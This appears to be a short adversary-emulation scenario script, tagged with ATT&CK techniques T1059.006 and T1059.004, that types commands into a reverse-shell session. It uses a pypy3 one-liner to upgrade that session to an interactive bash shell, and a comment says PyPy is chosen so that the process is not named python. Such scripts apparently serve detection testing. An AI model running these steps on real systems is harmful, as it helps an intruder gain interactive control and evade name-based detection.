# PyPy instead of CPython, so that the name is not python.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
pause=1.2
reverse_shell <<'TYPED'
pypy3 -c 'import pty; pty.spawn("/bin/bash")'
id
tty
exit
exit
TYPED
